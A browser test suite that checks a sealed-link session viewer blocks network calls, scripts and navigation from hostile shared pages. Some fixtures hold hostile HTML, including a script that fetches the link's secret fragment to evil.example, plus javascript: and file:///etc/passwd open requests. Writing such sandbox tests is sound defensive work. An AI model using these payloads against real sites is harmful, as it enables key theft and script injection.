"""A sealed link in a real browser, under the service's exact headers."""

import re
from typing import Any

import pytest
from playwright.sync_api import Frame, Page, Route, expect

from atomic_sessions.entry import Node, Text
from atomic_sessions.html.policy import STYLE, VERSION
from atomic_sessions.html.render import render_page
from atomic_sessions.sharing import new_share, seal_share
from documents import HOSTILE, document, everywhere, node, showcase

SECRET = bytes(range(32))
SHARE = new_share(SECRET).id
Server = Any  # ShareServer of conftest.py, which cannot be imported
Watch = Any  # its watch fixture


def seal(html: str, password: str | None = None) -> bytes:
    return seal_share(SECRET, html, b"bundle", bytes(12), bytes(16), password)


def said(text: str) -> str:
    return render_page(document(node("u1", None, Text(text))))


def frame_of(page: Page) -> Frame:
    handle = page.wait_for_selector("iframe")
    assert handle is not None
    frame = handle.content_frame()
    assert frame is not None
    frame.wait_for_selector("article")
    return frame


def assert_quiet(watched: Any, server: Server) -> None:  # a Watched of conftest.py
    """Only the own origin was asked, nothing was blocked, nothing ran that should not."""
    assert [url for url in watched.requests if not url.startswith((server.origin, "data:image/"))] == []
    assert watched.console == []
    assert watched.dialogs == []
    assert len(watched.opened) <= 1


def test_link_opens(server: Server, watch: Watch) -> None:
    """The session is shown, the page takes its title, the fragment stays in the address bar and goes nowhere."""
    server.payload = seal(render_page(showcase()))
    watched = watch()
    watched.page.goto(server.link)
    frame = frame_of(watched.page)
    expect(frame.get_by_role("heading", level=1)).to_have_text("Fix the flaky parser test")
    expect(frame.locator("article").first).to_contain_text("Please fix the test.")
    expect(frame.get_by_role("treeitem").first).to_be_visible()
    expect(watched.page).to_have_title("Fix the flaky parser test")
    assert watched.page.url == server.link
    assert sorted(server.asked) == [
        "GET /s/assets/share.css",
        "GET /s/assets/share.js",
        f"GET /s/{SHARE}",
        f"GET /s/{SHARE}/payload",
    ]
    assert_quiet(watched, server)


def test_hostile_entries_are_harmless(server: Server, watch: Watch) -> None:
    """Entries full of tags, scripts, styles and addresses: no request, no script, no policy report (test 29)."""
    nodes: list[Node] = []
    for number, text in enumerate([*HOSTILE, "".join(HOSTILE)]):
        for at in everywhere(text).nodes:
            nodes.append(
                node(
                    f"{number}-{at.id}",
                    nodes[-1].id if nodes else None,
                    *at.view.blocks,
                    role="assistant",
                    stop=text,
                )
            )
    server.payload = seal(render_page(document(*nodes, title=HOSTILE[2])))
    watched = watch()
    watched.page.goto(server.link)
    frame = frame_of(watched.page)
    expect(frame.get_by_role("treeitem").first).to_be_visible()
    frame.press("body", "o")
    assert frame.evaluate("document.scripts.length") == 1
    assert (
        frame.locator("iframe,object,embed,form,link,base,svg,[onerror],[onload],#transcript [style]").count()
        == 0
    )
    assert frame.evaluate("[...document.images].filter((i) => !i.src.startsWith('data:image/')).length") == 0
    assert_quiet(watched, server)


def test_hostile_page_is_caged(server: Server, watch: Watch) -> None:
    """Whoever seals may seal any page: it reaches no network, no secret and no other page."""
    evil = (
        f"<!doctype html><meta name=atomic-renderer content={VERSION}><title>x</title>"
        "<base href=https://evil.example/>"
        "<link rel=stylesheet href=https://evil.example/a.css><img src=https://evil.example/a.png>"
        "<style>body{background:url(https://evil.example/b.png)}</style><svg onload=alert(1)></svg>"
        "<iframe src=https://evil.example/frame></iframe><form action=https://evil.example><button>go</button></form>"
        "<script>parent.postMessage({type:'open',url:'javascript:alert(1)'},'*');alert(top.location.hash);"
        "fetch('https://evil.example/'+top.location.hash)</script><a href=https://evil.example/go>go</a><article>here</article>"
    )
    server.payload = seal(evil)
    watched = watch()
    watched.page.goto(server.link)
    frame = frame_of(watched.page)
    frame.get_by_text("here").wait_for()
    frame.get_by_role("link").click()
    expect(watched.page.locator("#ask")).to_be_hidden()
    assert [url for url in watched.requests if not url.startswith(server.origin)] == []
    assert watched.dialogs == []
    assert watched.page.url == server.link


def test_hostile_page_cannot_leave(server: Server, watch: Watch) -> None:
    """A page that sends its frame elsewhere gets an error page there, and no request is made."""
    server.payload = seal(
        f"<!doctype html><meta name=atomic-renderer content={VERSION}>"
        "<meta http-equiv=refresh content='0;url=https://evil.example/refresh'><article>here</article>"
    )
    watched = watch()
    with watched.page.expect_event("framenavigated", lambda frame: frame.url.startswith("chrome-error:")):
        watched.page.goto(server.link)
    assert [url for url in watched.requests if not url.startswith(server.origin)] == []
    assert watched.page.url == server.link


@pytest.mark.parametrize(
    ("change", "title"),
    [
        (lambda link: link.split("#")[0], "The link is not complete"),
        (lambda link: link[:-1], "The link is not complete"),
        (lambda link: link.replace("#v1.A", "#v1.B"), "The key does not fit this link"),
    ],
)
def test_broken_link(server: Server, watch: Watch, change: Any, title: str) -> None:
    """A link that was cut or changed says so before anything is fetched."""
    server.payload = seal(said("never shown"))
    watched = watch()
    watched.page.goto(change(server.link))
    expect(watched.page.locator("#title")).to_have_text(title)
    assert not any("payload" in asked for asked in server.asked)
    assert_quiet(watched, server)


@pytest.mark.parametrize(
    ("status", "title"),
    [
        (404, "Nothing is shared here"),
        (410, "This session is no longer shared"),
        (429, "Too many requests"),
        (503, "The server cannot give this out now"),
    ],
)
def test_share_that_is_over(server: Server, watch: Watch, status: int, title: str) -> None:
    """Unknown, expired and unavailable shares are told apart."""
    server.status = status
    watched = watch()
    watched.page.goto(server.link)
    expect(watched.page.locator("#title")).to_have_text(title)
    expect(watched.page.locator("iframe")).to_have_count(0)


@pytest.mark.parametrize("cut", [0, 20, 60, -1])
def test_damaged_share(server: Server, watch: Watch, cut: int) -> None:
    """A payload that was cut or changed is not shown."""
    whole = seal(said("never shown"))
    server.payload = whole[:cut] if cut >= 0 else whole[:-1] + bytes([whole[-1] ^ 1])
    watched = watch()
    watched.page.goto(server.link)
    expect(watched.page.locator("#title")).to_have_text("This share is damaged")
    expect(watched.page.locator("iframe")).to_have_count(0)


def test_newer_payload(server: Server, watch: Watch) -> None:
    """A payload of a later version says what to do."""
    server.payload = b"AS\x02" + seal(said("x"))[3:]
    watched = watch()
    watched.page.goto(server.link)
    expect(watched.page.locator("#title")).to_have_text("Made by a newer version")


def test_password(server: Server, watch: Watch) -> None:
    """A wrong password is refused and asked again; the right one opens."""
    server.payload = seal(said("behind a password"), "open päss")
    watched = watch()
    watched.page.goto(server.link)
    expect(watched.page.locator("#title")).to_have_text("This session has a password")
    watched.page.get_by_label("Password").fill("wrong")
    watched.page.get_by_role("button", name="Open").click()
    expect(watched.page.locator("#title")).to_have_text("That is not the password")
    watched.page.get_by_label("Password").fill("open päss")
    watched.page.keyboard.press("Enter")
    expect(frame_of(watched.page).locator("article")).to_contain_text("behind a password")
    assert [a for a in server.asked if "payload" in a] == [f"GET /s/{SHARE}/payload"]
    assert_quiet(watched, server)


def test_view_limit_is_used_by_a_click(server: Server, watch: Watch) -> None:
    """Loading the page uses nothing; the click claims one view; the next visitor is told that it is gone."""
    server.payload, server.views = seal(said("once")), 1
    watched = watch()
    watched.page.goto(server.link)
    button = watched.page.get_by_role("button", name="Open (this uses its only view)")
    button.wait_for()
    assert server.views == 1
    button.click()
    expect(frame_of(watched.page).locator("article")).to_contain_text("once")
    assert [a for a in server.asked if a.startswith("POST")] == [f"POST /s/{SHARE}/claim"]
    watched.page.reload()
    watched.page.get_by_role("button", name="Open (this uses").click()
    expect(watched.page.locator("#title")).to_have_text("This session is no longer shared")
    assert watched.dialogs == []


def test_other_renderer_version(server: Server, watch: Watch) -> None:
    """A page of another renderer version is shown as a plain transcript, readable and without its script."""
    html = said("from another version").replace(f"content={VERSION}", "content=" + "0" * 16)
    html = html.replace(STYLE, STYLE + "/*old*/").replace('"use strict";', '"use strict";alert(1);')
    server.payload = seal(html)
    watched = watch()
    watched.page.goto(server.link)
    frame = frame_of(watched.page)
    expect(frame.locator("article")).to_contain_text("from another version")
    expect(watched.page.locator("#notice")).to_contain_text("another version")
    assert frame.locator("script,style,meta[http-equiv]").count() == 0
    expect(frame.locator("body")).to_have_css("max-width", "864px")  # plain.css was allowed to load
    assert_quiet(watched, server)


def test_link_to_an_entry(server: Server, watch: Watch) -> None:
    """A deep link opens at its entry; copying a link gives one and puts it in the address bar."""
    nodes = [node(f"n{i}", f"n{i - 1}" if i else None, Text(f"entry {i}\n" * 20)) for i in range(60)]
    server.payload = seal(render_page(document(*nodes)))
    watched = watch(permissions=["clipboard-read", "clipboard-write"])
    watched.page.goto(f"{server.link}/n40")
    frame = frame_of(watched.page)
    expect(frame.locator("#e-n40")).to_be_in_viewport()
    expect(frame.locator("#e-n2")).not_to_be_in_viewport()
    frame.locator("#e-n40 .at").click()
    expect(watched.page).to_have_url(f"{server.link}/n40")
    frame.get_by_role("treeitem").first.wait_for()
    frame.locator("#e-n41 .at").click()
    expect(watched.page).to_have_url(f"{server.link}/n41")
    assert watched.page.evaluate("navigator.clipboard.readText()") == f"{server.link}/n41"
    assert_quiet(watched, server)


def test_link_out_needs_a_click_here(server: Server, watch: Watch) -> None:
    """A link in the session is shown in full first and opens in a new tab without a referrer, after a click."""
    server.payload = seal(said("see https://elsewhere.example/docs?a=1"))
    watched = watch()
    watched.page.goto(server.link)
    frame_of(watched.page).get_by_role("link", name="https://elsewhere.example").click()
    expect(watched.page.locator("#ask-url")).to_have_text("https://elsewhere.example/docs?a=1")
    assert not any("elsewhere" in url for url in watched.requests)
    headers: list[dict[str, str]] = []

    def answer(route: Route) -> None:
        headers.append(route.request.headers)
        route.fulfill(body="there", content_type="text/plain")

    watched.page.context.route("https://elsewhere.example/docs?a=1", answer)
    with watched.page.context.expect_page() as opened:
        watched.page.get_by_role("button", name="Open link").click()
    expect(opened.value.locator("body")).to_have_text("there")
    assert opened.value.evaluate("window.opener") is None
    assert [name for name in headers[0] if name == "referer"] == []
    expect(watched.page.locator("#ask")).to_be_hidden()


@pytest.mark.parametrize(
    "message",
    [
        {"type": "open", "url": "javascript:alert(1)"},
        {"type": "open", "url": "data:text/html,x"},
        {"type": "open", "url": "file:///etc/passwd"},
        {"type": "open", "url": "/relative"},
        {"type": "open", "url": {"href": "https://a.example"}},
        {"type": "link", "entry": 5},
        {"type": "else"},
        None,
    ],
)
def test_frame_may_ask_for_little(server: Server, watch: Watch, message: object) -> None:
    """Whatever the frame posts: only http, https and mailto are offered, and only as a question."""
    server.payload = seal(said("x"))
    watched = watch()
    watched.page.goto(server.link)
    frame = frame_of(watched.page)
    frame.evaluate("m => parent.postMessage(m, '*')", message)
    # Messages come in order: once this one is answered, the one before it has been refused.
    frame.evaluate("parent.postMessage({type: 'link', entry: 'last'}, '*')")
    expect(watched.page).to_have_url(f"{server.link}/last")
    expect(watched.page.get_by_text("This link leaves the page")).to_have_count(0)
    assert len(watched.opened) <= 1


def test_only_safe_context(server: Server, watch: Watch) -> None:
    """Over plain http from another machine the page says that it needs https."""
    server.payload = seal(said("never shown"))
    watched = watch()
    watched.page.goto(re.sub("127.0.0.1", "share.test", server.link))
    expect(watched.page.locator("#title")).to_have_text("This page needs https")


def test_page_tells_the_command(server: Server, watch: Watch) -> None:
    """The page names the way around itself, since its server is not to be trusted."""
    server.payload = seal(said("x"))
    watched = watch()
    watched.page.goto(server.link)
    watched.page.get_by_text("Open in a terminal").click()
    expect(watched.page.get_by_text("atomic --import -")).to_be_visible()


def test_without_javascript(server: Server, watch: Watch) -> None:
    """Without JavaScript the page says what it needs and how else to open the link."""
    watched = watch(java_script_enabled=False)
    watched.page.goto(server.link)
    expect(watched.page.get_by_text("needs JavaScript")).to_be_visible()
